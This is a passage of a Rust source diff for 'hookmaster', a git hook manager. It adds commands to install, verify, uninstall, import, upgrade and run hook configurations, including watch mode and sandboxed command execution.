+        for source in [ConfigSource::HookmasterToml, ConfigSource::GitHooksToml] {
+            let path = source.path(repo);
+            if path.symlink_metadata().is_ok() {
+                return Err(anyhow::anyhow!(
+                    "{} already exists; remove it to use the shared configuration",
+                    path.display()
+                ));
+            }
+        }
+
+        let link_file = repo.join(CONFIG_LINK_FILE);
+        match symlink_file(&target, &link) {
+            Ok(()) => {
+                if link_file.exists() {
+                    fs::remove_file(&link_file).with_context(|| {
+                        format!("Failed to remove config link: {}", link_file.display())
+                    })?;
+                }
+            }
+            Err(_) if cfg!(windows) => {
+                fs::write(&link_file, format!("{}\n", target.display())).with_context(|| {
+                    format!("Failed to write config link: {}", link_file.display())
+                })?;
+            }
+            Err(e) => {
+                return Err(e).with_context(|| {
+                    format!("Failed to link {} to {}", link.display(), target.display())
+                })
+            }
+        }
+
+        Ok(())
+    }
+
+    /// Install the hook scripts into git's template directory, so that
+    /// repositories created by future `git clone` and `git init` have them
+    pub fn install_template(&self) -> Result<()> {
+        let install = GitTemplate::new()?.install()?;
+        let hooks_dir = install.dir.join("hooks");
+        println!(
+            "Installed {} hooks to {}",
+            install.hooks.len(),
+            hooks_dir.display()
+        );
+        if install.configured {
+            println!(
+                "Set init.templateDir to {} in the global git configuration",
+                install.dir.display()
+            );
+        }
+        println!("Repositories created by git clone and git init from now on will use hookmaster");
+
+        Ok(())
+    }
+
+    /// Install the scripts of the server-side hooks to the repository of the
+    /// SSH remote `remote_url`, such as a bare repository developers push to
+    pub fn add_hooks_to_remote(&self, remote_url: &str) -> Result<()> {
+        let install = RemoteHookInstaller::install(remote_url, &GitHook::server_hooks())?;
+        println!(
+            "Installed {} hooks to {}: {}",
+            install.hooks.len(),
+            install.target,
+            install.hooks.join(", ")
+        );
+        Ok(())
+    }
+
+    /// Remove hookmaster's hook scripts from all repositories under `path`.
+    /// Hooks that weren't written by hookmaster are left alone, as are those
+    /// the repository's manifest shows were edited since `add` wrote them.
+    pub fn uninstall(&self, path: &Path) -> Result<()> {
+        let repositories = self.find_repositories(path).with_context(|| {
+            format!("Failed to find git repositories under: {}", path.display())
+        })?;
+
+        for repo in &repositories {
+            let hooks_dir = repo.join(".git").join("hooks");
+            let manifest = Manifest::load_or_warn(repo);
+            let names: Vec<String> = match &manifest {
+                Some(manifest) => manifest.hooks.iter().map(|h| h.name.clone()).collect(),
+                None => GitHook::standard_hooks()
+                    .iter()
+                    .map(GitHook::to_filename)
+                    .collect(),
+            };
+
+            let mut removed = Vec::new();
+            for name in names {
+                let hook_file = hooks_dir.join(&name);
+                let Ok(content) = fs::read_to_string(&hook_file) else {
+                    continue;
+                };
+                let ours = match manifest.as_ref().and_then(|m| m.hook(&name)) {
+                    Some(installed) => {
+                        manifest::content_hash(&content) == installed.hash
+                            || GitHook::from_filename(&name).is_current_script(&content)
+                    }
+                    None => git_hooks::is_hookmaster_script(&hook_file),
+                };
+                if !ours {
+                    if manifest.is_some() && git_hooks::is_hookmaster_script(&hook_file) {
+                        eprintln!(
+                            "Warning: leaving {}, which was edited after hookmaster installed it",
+                            hook_file.display()
+                        );
+                    }
+                    continue;
+                }
+
+                fs::remove_file(&hook_file).with_context(|| {
+                    format!("Failed to remove hook file: {}", hook_file.display())
+                })?;
+                removed.push(name);
+                // The script `add --chain` ran before hookmaster takes its place again
+                let chained = git_hooks::chained_file(&hook_file);
+                if chained.is_file() {
+                    fs::rename(&chained, &hook_file)
+                        .with_context(|| format!("Failed to restore {}", chained.display()))?;
+                }
+            }
+            Manifest::remove(repo)?;
+            if !removed.is_empty() {
+                println!("{}: removed {}", repo.display(), removed.join(", "));
+            }
+        }
+
+        Ok(())
+    }
+
+    /// Check that every repository under `path` has hookmaster's current,
+    /// executable script for each hook its configuration needs, and that the
+    /// scripts can find hookmaster. With `fix`, missing and outdated scripts
+    /// are installed and scripts are made executable. Fails listing what is
+    /// still wrong.
+    pub fn verify(&self, path: &Path, fix: bool) -> Result<()> {
+        let repositories = self.find_repositories(path).with_context(|| {
+            format!("Failed to find git repositories under: {}", path.display())
+        })?;
+
+        let mut problems = 0;
+        if process::find_executable("hookmaster").is_none() {
+            eprintln!("hookmaster is not on PATH, so the hook scripts can't run it");
+            problems += 1;
+        }
+
+        for repo in &repositories {
+            let source = self.config_path.clone().map(ConfigSource::File);
+            let config = match GitHooksConfig::discover(repo, source) {
+                Ok(Some(config)) => config,
+                Ok(None) => {
+                    println!("{}: no configuration, nothing to verify", repo.display());
+                    continue;
+                }
+                Err(e) => {
+                    eprintln!("{}: {e:#}", repo.display());
+                    problems += 1;
+                    continue;
+                }
+            };
+
+            let hooks = verify::required_hooks(&config);
+            let manifest = Manifest::load_or_warn(repo);
+            let mut to_install = Vec::new();
+            let mut found = 0;
+            for hook in &hooks {
+                let Some(discrepancy) = verify::check_hook(repo, hook, manifest.as_ref()) else {
+                    continue;
+                };
+                found += 1;
+                let name = hook.to_filename();
+                if !(fix && discrepancy.is_fixable()) {
+                    eprintln!(
+                        "{}: {name}: {}; {}",
+                        repo.display(),
+                        discrepancy.describe(),
+                        discrepancy.suggestion(repo)
+                    );
+                    problems += 1;
+                    continue;
+                }
+
+                if discrepancy == verify::Discrepancy::NotExecutable {
+                    verify::make_executable(&repo.join(".git").join("hooks").join(&name))?;
+                } else {
+                    to_install.push(hook.clone());
+                }
+                println!(
+                    "{}: {name}: fixed ({})",
+                    repo.display(),
+                    discrepancy.describe()
+                );
+            }
+            if !to_install.is_empty() {
+                let mut bucket = TokenBucket::new(self.rate_limit);
+                self.install_hooks(repo, to_install, config.settings.script_format, &mut bucket)?;
+            }
+            if found == 0 {
+                println!("{}: {} hook(s) verified", repo.display(), hooks.len());
+            }
+        }
+
+        if problems > 0 {
+            return Err(anyhow::anyhow!(
+                "Found {problems} problem(s) with installed hooks"
+            ));
+        }
+        Ok(())
+    }
+
+    /// Remove the hook scripts from git's template directory, reverting
+    /// `init.templateDir` if `install_template` set it
+    pub fn uninstall_template(&self) -> Result<()> {
+        let removal = GitTemplate::new()?.uninstall()?;
+        let Some(dir) = removal.dir else {
+            println!("No git template directory is configured");
+            return Ok(());
+        };
+
+        if removal.hooks.is_empty() {
+            println!("No hookmaster hooks in {}", dir.join("hooks").display());
+        } else {
+            println!(
+                "Removed {} from {}",
+                removal.hooks.join(", "),
+                dir.join("hooks").display()
+            );
+        }
+        if removal.unconfigured {
+            println!("Unset init.templateDir in the global git configuration");
+        }
+
+        Ok(())
+    }
+
+    /// Check the configuration, the current repository's hooks and the git
+    /// template directory, printing what was found. Fails if there are problems.
+    pub fn doctor(&self) -> Result<()> {
+        let mut problems = Vec::new();
+
+        match self.load_config() {
+            Ok(config) => println!("{}", describe_source(&config)),
+            Err(e) => problems.push(format!("{e:#}")),
+        }
+
+        let root = std::env::current_dir().with_context(|| "Failed to get current directory")?;
+        if git_hooks::is_git_repository(&root) {
+            let hooks_dir = root.join(".git").join("hooks");
+            let manifest = match Manifest::load(&root) {
+                Ok(manifest) => manifest,
+                Err(e) => {
+                    problems.push(format!("{e:#}"));
+                    None
+                }
+            };
+            let edited: Vec<String> = manifest
+                .as_ref()
+                .map(|manifest| {
+                    let drifted = manifest.drifted(&hooks_dir);
+                    drifted.iter().map(|hook| hook.name.clone()).collect()
+                })
+                .unwrap_or_default();
+
+            let mut current = 0;
+            for hook in GitHook::standard_hooks() {
+                let hook_file = hooks_dir.join(hook.to_filename());
+                match fs::read_to_string(&hook_file) {
+                    Ok(content) if hook.is_current_script(&content) => current += 1,
+                    Ok(_) if edited.contains(&hook.to_filename()) => problems.push(format!(
+                        "{} was edited after hookmaster installed it",
+                        hook_file.display()
+                    )),
+                    Ok(_) if git_hooks::is_hookmaster_script(&hook_file) => {
+                        problems.push(format!("{} is out of date", hook_file.display()))
+                    }
+                    Ok(_) => problems.push(format!(
+                        "{} was not installed by hookmaster",
+                        hook_file.display()
+                    )),
+                    Err(_) => problems.push(format!("{} is missing", hook_file.display())),
+                }
+            }
+            println!(
+                "Repository hooks: {current} of {} current",
+                GitHook::standard_hooks().len()
+            );
+        }
+
+        match GitTemplate::new().and_then(|template| template.check()) {
+            Ok(TemplateStatus::NotInstalled) => {
+                println!("Git template directory: no hookmaster hooks")
+            }
+            Ok(TemplateStatus::Current) => println!("Git template directory: hooks are current"),
+            Ok(TemplateStatus::Outdated(template_problems)) => problems.extend(template_problems),
+            Err(e) => problems.push(format!("Git template directory: {e:#}")),
+        }
+
+        if problems.is_empty() {
+            return Ok(());
+        }
+        for problem in &problems {
+            eprintln!("  {problem}");
+        }
+        Err(anyhow::anyhow!(
+            "Found {} problem(s); run 'hookmaster add' to reinstall hooks",
+            problems.len()
+        ))
+    }
+
+    /// Write the configuration imported from another hook manager to
+    /// hookmaster.toml (githooks.toml with `legacy_name`) in the current
+    /// directory, then check it like `validate` and warn about commands that
+    /// may need changes. `dir` is where the other manager keeps its hooks,
+    /// `.husky` by default for Husky.
+    pub fn import_config(
+        &self,
+        format: ImportFormat,
+        dir: Option<&Path>,
+        legacy_name: bool,
+    ) -> Result<()> {
+        let source = if legacy_name {
+            ConfigSource::GitHooksToml
+        } else {
+            ConfigSource::HookmasterToml
+        };
+        let file_name = source.file_name();
+        for existing in [ConfigSource::HookmasterToml, ConfigSource::GitHooksToml] {
+            if Path::new(existing.file_name()).exists() {
+                return Err(anyhow::anyhow!(
+                    "{} already exists; remove it to import another configuration",
+                    existing.file_name()
+                ));
+            }
+        }
+
+        let (dir, config, warnings) = match format {
+            ImportFormat::Husky => {
+                let dir = dir.unwrap_or(Path::new(importers::husky::HUSKY_DIR));
+                let config = HuskyImporter::import(dir)?;
+                let warnings = HuskyImporter::warnings(&config);
+                (dir, config, warnings)
+            }
+        };
+        if config.hooks.is_empty() {
+            return Err(anyhow::anyhow!("No hooks found in {}", dir.display()));
+        }
+
+        config
+            .save_to_file(file_name)
+            .with_context(|| format!("Failed to create {file_name}"))?;
+        println!(
+            "Imported {} hook(s) from {} into {file_name}",
+            config.hooks.len(),
+            dir.display()
+        );
+
+        let saved = GitHooksConfig::load_from_file(file_name)?;
+        for problem in saved.validate().iter().chain(&warnings) {
+            eprintln!("Warning: {problem}");
+        }
+        if format == ImportFormat::Husky {
+            println!("Husky runs the hooks through core.hooksPath; run 'git config --unset core.hooksPath' and 'hookmaster add .' to have hookmaster run them instead");
+        }
+
+        Ok(())
+    }
+
+    /// Print the hash of the effective configuration, with what it extends
+    /// and includes merged in, for CI caches to key on
+    pub fn print_config_hash(&self, format: HashFormat) -> Result<()> {
+        let config = self.load_config()?;
+        println!("{}", config.content_hash_hex(format));
+        Ok(())
+    }
+
+    /// Move the hooks the configuration file defines as top-level keys into
+    /// `[hooks.<name>]` tables of named commands, printing the change as a
+    /// diff. A file that already has `[hooks]` tables is left alone unless
+    /// `force` is set. With `check`, nothing is written and it is an error
+    /// if the upgrade would change the file.
+    pub fn upgrade_config(&self, check: bool, force: bool) -> Result<()> {
+        let config = self.load_config()?;
+        let path = match &config.source {
+            Some(source @ (ConfigSource::HookmasterToml
+            | ConfigSource::GitHooksToml
+            | ConfigSource::File(_))) => source.path(Path::new("")),
+            Some(source) => {
+                return Err(anyhow::anyhow!(
+                    "Only hookmaster.toml and githooks.toml can be upgraded; the configuration is in {source}"
+                ))
+            }
+            None => return Err(anyhow::anyhow!("No configuration found to upgrade")),
+        };
+        let content = fs::read_to_string(&path)
+            .with_context(|| format!("Failed to read config file: {}", path.display()))?;
+
+        if upgrade::is_structured(&content) && !force {
+            if check {
+                println!("{} already uses [hooks] tables", path.display());
+                return Ok(());
+            }
+            return Err(anyhow::anyhow!(
+                "{} already uses [hooks] tables; use --force to move its remaining top-level hooks into tables too",
+                path.display()
+            ));
+        }
+        let upgraded = upgrade::upgrade(&content)
+            .with_context(|| format!("Failed to upgrade {}", path.display()))?;
+        if upgraded == content {
+            println!("{} is up to date", path.display());
+            return Ok(());
+        }
+
+        println!("--- {}", path.display());
+        println!("+++ {}", path.display());
+        for line in upgrade::diff(&content, &upgraded) {
+            println!("{line}");
+        }
+        if check {
+            return Err(anyhow::anyhow!(
+                "{} uses the old format; run 'hookmaster upgrade-config' to upgrade it",
+                path.display()
+            ));
+        }
+        fs::write(&path, upgraded)
+            .with_context(|| format!("Failed to write config file: {}", path.display()))?;
+        println!("Upgraded {}", path.display());
+        Ok(())
+    }
+
+    /// Initialize current repository with a sample hookmaster.toml, or
+    /// githooks.toml with `legacy_name`. With a `preset`, the configuration
+    /// comes from the preset instead of the sample. On CI the sample has
+    /// only the hooks CI can run, and only the configured hooks are
+    /// installed, as hooks such as `prepare-commit-msg` need a local commit.
+    pub fn init_repository(&self, legacy_name: bool, preset: Option<&str>) -> Result<()> {
+        let source = if legacy_name {
+            ConfigSource::GitHooksToml
+        } else {
+            ConfigSource::HookmasterToml
+        };
+        let file_name = source.file_name();
+
+        for existing in [ConfigSource::HookmasterToml, ConfigSource::GitHooksToml] {
+            if Path::new(existing.file_name()).exists() {
+                eprintln!(
+                    "{} already exists, skipping initialization",
+                    existing.file_name()
+                );
+                return Ok(());
+            }
+        }
+
+        let ci = ci::detect_ci_environment();
+        let config = match preset {
+            Some(name) => {
+                let preset = Preset::find(name, Preset::custom_dir().as_deref())?;
+                let config = preset.to_config();
+                config
+                    .save_to_file(file_name)
+                    .with_context(|| format!("Failed to create {file_name}"))?;
+                println!("Created {file_name} from preset '{}'", preset.name());
+                config
+            }
+            None => {
+                // Create sample configuration
+                let sample_config = GitHooksConfig::create_sample(ci);
+                sample_config
+                    .save_to_file(file_name)
+                    .with_context(|| format!("Failed to create sample {file_name}"))?;
+                match ci {
+                    Some(ci) => println!("Created sample {file_name} for {}", ci.name()),
+                    None => println!("Created sample {file_name}"),
+                }
+                sample_config
+            }
+        };
+
+        // Install hooks to current repository
+        let current_dir =
+            std::env::current_dir().with_context(|| "Failed to get current directory")?;
+
+        if crate::git_hooks::is_git_repository(&current_dir) {
+            let bucket = &mut TokenBucket::unlimited();
+            match ci {
+                Some(_) => self.install_configured_hooks(
+                    &current_dir,
+                    &config,
+                    bucket,
+                    ExecutionMode::Live,
+                )?,
+                None => {
+                    self.install_hooks_to_repo(&current_dir, None, bucket, ExecutionMode::Live)?
+                }
+            };
+            println!("Installed hooks to current repository");
+        } else {
+            eprintln!("Current directory is not a git repository, hooks not installed");
+        }
+
+        Ok(())
+    }
+
+    /// Print the script `add` installs for `hook_name` (an unknown name gets
+    /// the script for a custom hook), or for all standard hooks with headers
+    /// between them when no name is given. The scripts are in the format of
+    /// the `script-format` setting.
+    pub fn print_hook_script(&self, hook_name: Option<&str>) -> Result<()> {
+        let format = self.load_config()?.settings.script_format;
+        match hook_name {
+            Some(name) => print!("{}", GitHook::from_filename(name).script_content(format)),
+            None => print!(
+                "{}",
+                git_hooks::script_bundle(&GitHook::standard_hooks(), format)
+            ),
+        }
+        Ok(())
+    }
+
+    /// Print the presets available to `init --preset`
+    pub fn list_presets(&self) {
+        println!("Built-in presets:");
+        for name in Preset::BUILT_IN {
+            println!("  {name}");
+        }
+
+        let Some(dir) = Preset::custom_dir() else {
+            return;
+        };
+        let custom = Preset::custom_names(&dir);
+        if custom.is_empty() {
+            println!("No custom presets in {}", dir.display());
+        } else {
+            println!("Custom presets in {}:", dir.display());
+            for name in custom {
+                println!("  {name}");
+            }
+        }
+    }
+
+    /// Run a specific hook command. `args` are those git gave the hook,
+    /// which commands get as `$1` and so on and through the `{args}` and
+    /// `{msg_file}` placeholders.
+    pub fn run_hook(&self, hook_name: &str, args: &[String]) -> Result<(), HookError> {
+        // Load configuration
+        let config = self.load_config()?;
+        let root = std::env::current_dir().with_context(|| "Failed to get current directory")?;
+
+        self.run_configured_hook(&config, &root, hook_name, args)
+    }
+
+    /// Run a hook, then again each time files in the current directory
+    /// change, until interrupted. Files git ignores and the `.git`,
+    /// `target` and `node_modules` directories are not watched. Each run
+    /// reloads the configuration and ends with a pass/fail banner naming
+    /// the changes that started it; on a terminal the screen is cleared
+    /// first. Returns once hookmaster is stopped by one of the signals
+    /// [`shutdown::forward_signals`] passes on to the running commands.
+    pub fn watch_hook(&self, hook_name: &str) -> Result<()> {
+        let root = std::env::current_dir().with_context(|| "Failed to get current directory")?;
+        let mut watcher = Watcher::new(
+            PollingWatcher::new(&root)?,
+            watch::POLL_INTERVAL,
+            watch::DEBOUNCE,
+        );
+        let clear_screen = io::stdout().is_terminal();
+        let mut changed = Vec::new();
+        loop {
+            if clear_screen {
+                print!("\x1b[2J\x1b[H");
+            }
+            let started = Instant::now();
+            let result = self.run_hook(hook_name, &[]);
+            if shutdown::stopped() {
+                return Ok(());
+            }
+            // Failed commands have reported themselves already
+            match result.as_ref().err().filter(|e| e.exit_code().is_none()) {
+                // With the causes the top-level error report would show
+                Some(HookError::ConfigError(e)) => eprintln!("Error: {e:#}"),
+                Some(error) => eprintln!("Error: {error}"),
+                None => {}
+            }
+            println!(
+                "{}",
+                watch::banner(hook_name, result.is_ok(), started.elapsed(), &changed)
+            );
+            println!("Watching for changes; press Ctrl-C to stop");
+            // Files the hook itself wrote, such as by formatting, don't count
+            watcher.skip_changes()?;
+            match watcher.next_batch(shutdown::stopped)? {
+                Some(paths) => changed = paths,
+                None => return Ok(()),
+            }
+        }
+    }
+
+    /// `PATH` for hook commands in the repository at `repo`, with the
+    /// directories listed in its `.hookmaster-path` file in front; `None`
+    /// when the file doesn't exist or lists no existing directory
+    pub fn augment_path(repo: &Path) -> Result<Option<OsString>> {
+        let dirs = tool_paths::path_file_dirs(repo)?;
+        if dirs.is_empty() {
+            return Ok(None);
+        }
+        let path =
+            tool_paths::prepend(&dirs, std::env::var_os("PATH").as_deref()).with_context(|| {
+                format!(
+                    "Failed to add the directories of {} to PATH",
+                    tool_paths::PATH_FILE
+                )
+            })?;
+        Ok(Some(path))
+    }
+
+    /// Print the commands a hook would run, after shorthand expansion, without running them
+    pub fn dry_run_hook(&self, hook_name: &str) -> Result<()> {
+        let config = self.load_config()?;
+        let root = std::env::current_dir().with_context(|| "Failed to get current directory")?;
+
+        println!("{}", describe_source(&config));
+        if !config.has_active_hook(hook_name) {
+            println!("Hook '{hook_name}' has no commands to run");
+            return Ok(());
+        }
+
+        let spec = resolve::resolve_hook(&config, hook_name, &root)?;
+        for line in resolve::describe_hook(hook_name, &spec, &root) {
+            println!("{line}");
+        }
+
+        let policy = config.get_hook_env_policy(hook_name);
+        if policy != EnvPolicy::Inherit {
+            let names = environment_names(&policy, &self.env_file_vars()?);
+            if names.is_empty() {
+                println!("Environment: none");
+            } else {
+                println!("Environment: {}", names.join(", "));
+            }
+        }
+
+        let mut dirs = tool_paths::extra_dirs(&config.run, &root);
+        dirs.extend(tool_paths::path_file_dirs(&root)?);
+        if !dirs.is_empty() {
+            println!("PATH additions:");
+            for dir in dirs {
+                println!("  {}", dir.strip_prefix(&root).unwrap_or(&dir).display());
+            }
+        }
+
+        Ok(())
+    }
+
+    /// List the configured hooks and where the configuration was loaded from
+    pub fn list_hooks(&self, filter: HookFilter) -> Result<()> {
+        let config = self.load_config()?;
+        let root = std::env::current_dir().with_context(|| "Failed to get current directory")?;
+        let hooks_dir = root.join(".git").join("hooks");
+
+        println!("{}", describe_source(&config));
+        let mut names: Vec<&str> = config.hooks.keys().map(String::as_str).collect();
+        names.sort();
+        let status: Vec<HookStatus> = names
+            .into_iter()
+            .map(|name| HookStatus::check(&hooks_dir, name))
+            .collect();
+        for hook in filter_hooks(&status, filter) {
+            let name = &hook.name;
+            let spec = &config.hooks[name];
+            let summary = match spec.commands.as_slice() {
+                [entry] if entry.name == *name => entry.command.clone(),
+                commands => {
+                    let names: Vec<&str> = commands.iter().map(|e| e.name.as_str()).collect();
+                    names.join(", ")
+                }
+            };
+            let mode = if spec.parallel { " (parallel)" } else { "" };
+            let owner = match hook.owner {
+                Some(HookOwner::Hookmaster) | None => String::new(),
+                Some(HookOwner::Custom) => " (custom hook script installed)".to_string(),
+                Some(owner) => format!(" (hook script from {} installed)", owner.name()),
+            };
+            println!("  {name}: {summary}{mode}{owner}");
+        }
+
+        Ok(())
+    }
+
+    /// Run a hook using an already loaded configuration, with commands run in `root`
+    fn run_configured_hook(
+        &self,
+        config: &GitHooksConfig,
+        root: &Path,
+        hook_name: &str,
+        args: &[String],
+    ) -> Result<(), HookError> {
+        if self.strict && config.source.is_none() {
+            return Err(HookError::Strict(describe_source(config)));
+        }
+
+        // The message is rewrapped whether or not the hook has commands
+        if let (Some(width), "commit-msg", Some(file)) =
+            (config.commit_msg.wrap_body, hook_name, args.first())
+        {
+            wrap_message_file(&root.join(file), width)?;
+        }
+        if let (Some(within), "commit-msg", Some(file)) = (
+            config.commit_msg.forbid_duplicate_subject_within,
+            hook_name,
+            args.first(),
+        ) {
+            let severity = config.commit_msg.duplicate_subject_severity;
+            check_duplicate_subject(&root.join(file), root, within, severity)?;
+        }
+        // Commands get the stdin the checks read
+        let protect = &config.protect;
+        let input = if hook_name == "pre-push"
+            && (protect.forbid_unfinished_commits || protect.require_ticket_in_pushed_commits)
+        {
+            let input = self.read_hook_input()?;
+            check_push(config, root, args, &input)?;
+            Some(input)
+        } else {
+            None
+        };
+
+        // Stashing the unstaged changes leaves the checks nothing to miss
+        let stash_unstaged = self.stash_unstaged
+            || (hook_name == "pre-commit" && config.settings.pre_commit_stash_unstaged);
+        if let (Some(severity), "pre-commit", false) = (
+            config.settings.pre_commit_partially_staged,
+            hook_name,
+            stash_unstaged,
+        ) {
+            check_partially_staged(root, severity)?;
+        }
+
+        if !config.hooks.contains_key(hook_name) {
+            warn_unknown_hook(config, hook_name);
+        }
+
+        // Check if hook is defined and active
+        if !config.has_active_hook(hook_name) {
+            if self.strict && !config.hooks.contains_key(hook_name) {
+                return Err(HookError::NotFound(hook_name.to_string()));
+            }
+            if self.strict {
+                return Err(HookError::Strict(format!(
+                    "Hook '{hook_name}' has no command to run"
+                )));
+            }
+            return Ok(());
+        }
+
+        if let Some(path) = &self.stdin_file {
+            if !path.is_file() {
+                return Err(anyhow::anyhow!("Input file not found: {}", path.display()).into());
+            }
+        }
+
+        let settings = &config.settings;
+        let callback_failed = |setting, reason| HookError::CallbackFailed {
+            hook: hook_name.to_string(),
+            setting,
+            reason,
+        };
+        if let Some(command) = &settings.pre_hook_command {
+            if let Some(reason) = run_hook_callback(settings, command, root, hook_name, None) {
+                let error = callback_failed("pre-hook-command", reason);
+                if settings.pre_hook_fail_aborts {
+                    return Err(error);
+                }
+                eprintln!("Warning: {error}");
+            }
+        }
+
+        let result = {
+            let _stash = stash_unstaged.then(|| StashGuard::stash_unstaged(root));
+            self.run_hook_commands(config, root, hook_name, args, input.as_deref())
+        };
+
+        if let Some(command) = &settings.post_hook_command {
+            let exit_code = match &result {
+                Ok(()) => 0,
+                Err(e) => e.exit_code().unwrap_or(1),
+            };
+            if let Some(reason) =
+                run_hook_callback(settings, command, root, hook_name, Some(exit_code))
+            {
+                let error = callback_failed("post-hook-command", reason);
+                // A hook that failed already fails with its own error
+                if settings.post_hook_fail_aborts && result.is_ok() {
+                    return Err(error);
+                }
+                eprintln!("Warning: {error}");
+            }
+        }
+        result
+    }
+
+    /// The stdin git gives the hook, or the content of the file given with
+    /// `run --input-file`. A terminal gives nothing.
+    fn read_hook_input(&self) -> Result<String> {
+        if let Some(path) = &self.stdin_file {
+            return fs::read_to_string(path)
+                .with_context(|| format!("Input file not found: {}", path.display()));
+        }
+        let mut input = String::new();
+        if !io::stdin().is_terminal() {
+            io::stdin()
+                .read_to_string(&mut input)
+                .context("Failed to read stdin")?;
+        }
+        Ok(input)
+    }
+
+    /// Run the commands of a hook that is defined and active, in `root`,
+    /// with the arguments git gave the hook and, if it was already read, the
+    /// stdin git gave it
+    fn run_hook_commands(
+        &self,
+        config: &GitHooksConfig,
+        root: &Path,
+        hook_name: &str,
+        args: &[String],
+        input: Option<&str>,
+    ) -> Result<(), HookError> {
+        let spec = resolve::resolve_hook(config, hook_name, root)?;
+
+        let problems = spec.validate(hook_name);
+        if !problems.is_empty() {
+            return Err(HookError::ConfigError(anyhow::anyhow!(
+                "Invalid configuration for hook '{}':\n  {}",
+                hook_name,
+                problems.join("\n  ")
+            )));
+        }
+
+        let remote = if hook_name == "pre-push" {
+            PushRemote::from_args(args)
+        } else {
+            None
+        };
+        if let Some(remote) =
+            remote.filter(|r| !r.is_selected(&spec.only_remotes, &spec.skip_remotes))
+        {
+            println!("Hook '{hook_name}': skipped for remote '{}'", remote.name);
+            return Ok(());
+        }
+
+        let augmented = Self::augment_path(root)?;
+        let dirs = tool_paths::extra_dirs(&config.run, root);
+        let path = if dirs.is_empty() {
+            augmented
+        } else {
+            let base = augmented.or_else(|| std::env::var_os("PATH"));
+            let path = tool_paths::prepend(&dirs, base.as_deref())
+                .context("Failed to add tool directories to PATH")?;
+            Some(path)
+        };
+
+        let run = HookRun {
+            hook_name,
+            root,
+            parallel: spec.parallel,
+            sandbox: match Sandbox::for_settings(&config.sandbox, root) {
+                sandbox if spec.deny_network => sandbox.without_network(hook_name),
+                sandbox => sandbox,
+            },
+            format: self
+                .output_format
+                .unwrap_or(if spec.parallel && spec.commands.len() > 1 {
+                    OutputFormat::Prefixed
+                } else {
+                    OutputFormat::Raw
+                }),
+            settings: &config.settings,
+            args,
+            input,
+            remote,
+            path,
+            env: config.get_hook_env_policy(hook_name),
+            env_vars: self.env_file_vars()?,
+            warnings: Mutex::new(HashMap::new()),
+            files: match &self.files {
+                Some(files) => FileSource::given(root, files)?,
+                None => FileSource::Staged,
+            },
+            cgroup: Cgroup::for_limits(&config.get_hook_limits(hook_name), hook_name),
+            durations: Mutex::new(HashMap::new()),
+        };
+        let prerequisites = dag::prerequisites(&spec.commands);
+        let tasks = dag::tasks(&spec.commands, &prerequisites);
+        let mut outcomes = scheduler::run(&tasks, spec.parallel, |index| {
+            let entry = &spec.commands[index];
+            let started = Instant::now();
+            let result = self.execute_command(&run, entry);
+            if let Ok(mut durations) = run.durations.lock() {
+                durations.insert(entry.name.clone(), started.elapsed());
+            }
+            result
+        });
+        if config.run.record_timings != Some(false) {
+            record_timings(&run, &spec.commands, &outcomes, config.run.timings_max_kb);
+        }
+        if let Some(audit_log) = &config.settings.audit_log {
+            log_commands(&run, audit_log, &spec.commands, &outcomes);
+        }
+
+        if outcomes.iter().all(TaskOutcome::is_success) {
+            return Ok(());
+        }
+
+        // A single command's error already describes the failure
+        if outcomes.len() == 1 {
+            if let TaskOutcome::Failed(e) = outcomes.remove(0) {
+                return Err(e);
+            }
+        }
+
+        eprintln!("Hook '{hook_name}' summary:");
+        let warnings = run.warnings.into_inner().unwrap_or_default();
+        let mut failed = Vec::new();
+        for (entry, outcome) in spec.commands.iter().zip(&outcomes) {
+            let (status, detail) = match outcome {
+                TaskOutcome::Succeeded => match warnings.get(&entry.name) {
+                    Some(code) => ("warning", format!(" (passed with warnings, exit {code})")),
+                    None => ("ok", String::new()),
+                },
+                TaskOutcome::Failed(e) => {
+                    failed.push(entry.name.clone());
+                    let detail = match e {
+                        HookError::FanOutFailed { dirs, .. } => format!(" ({})", dirs.join(", ")),
+                        _ => String::new(),
+                    };
+                    ("failed", detail)
+                }
+                TaskOutcome::NotRun => ("not run", String::new()),
+            };
+            eprintln!("  {status:<8} {}{detail}", entry.name);
+        }
+
+        Err(HookError::CommandsFailed {
+            hook: hook_name.to_string(),
+            commands: failed,
+        })
+    }
+
+    /// Execute a single command of a hook, once per directory for `foreach_dir` commands
+    fn execute_command(&self, run: &HookRun, entry: &HookEntry) -> Result<(), HookError> {
+        let hook_name = run.hook_name;
+        let label = if entry.name == hook_name {
+            format!("hook '{hook_name}'")
+        } else {
+            format!("command '{}' in hook '{hook_name}'", entry.name)
+        };
+        let capitalized = label[..1].to_uppercase() + &label[1..];
+
+        if let Some(remote) = run
+            .remote
+            .filter(|r| !r.is_selected(&entry.only_remotes, &entry.skip_remotes))
+        {
+            println!("{capitalized}: skipped for remote '{}'", remote.name);
+            return Ok(());
+        }
+
+        let Some(command) = files_substituted(run, entry)? else {
+            println!("{capitalized}: no files to check");
+            return Ok(());
+        };
+        let command = if placeholder::names(&command)
+            .iter()
+            .any(|name| ARGS_PLACEHOLDERS.contains(name))
+        {
+            args_substituted(&command, run.args)
+        } else if !run.args.is_empty()
+            && run.settings.append_args()
+            && !uses_positional_args(&command)
+        {
+            args_appended(&command, run.args)
+        } else {
+            command
+        };
+
+        if let Some(pattern) = &entry.foreach_dir {
+            return self.execute_fan_out(run, entry, &command, pattern);
+        }
+
+        match self.run_shell(run, entry, &command, run.root) {
+            Ok(status) if status.success() => run.finished(entry, 0, CommandStatus::Passed),
+            Ok(status) => {
+                let code = status.code().unwrap_or(-1);
+                if entry.allows_exit_code(code) {
+                    eprintln!("{capitalized} passed with warnings, exit code: {code}");
+                    run.finished(entry, code, CommandStatus::Warning);
+                } else {
+                    eprintln!("{capitalized} failed with exit code: {code}");
+                    run.finished(entry, code, CommandStatus::Failed);
+                    report_missing_program(&capitalized, entry, &command, code);
+                    report_network_denied(&capitalized, run);
+                    return Err(HookError::ExecutionFailed {
+                        hook: hook_name.to_string(),
+                        exit_code: code,
+                    });
+                }
+            }
+            Err(e) if e.kind() == io::ErrorKind::TimedOut => {
+                let seconds = entry.timeout.unwrap_or_default();
+                eprintln!("{capitalized} timed out after {seconds} seconds");
+                return Err(HookError::TimedOut {
+                    hook: hook_name.to_string(),
+                    seconds,
+                });
+            }
+            Err(e) => {
+                eprintln!("Failed to execute {label}: {e}");
+                report_missing_runner(&capitalized, entry, &e);
+                return Err(HookError::SpawnFailed {
+                    hook: hook_name.to_string(),
+                    source: e,
+                });
+            }
+        }
+
+        Ok(())
+    }
+
+    /// Run the `foreach_dir` command `command` in each matching directory,
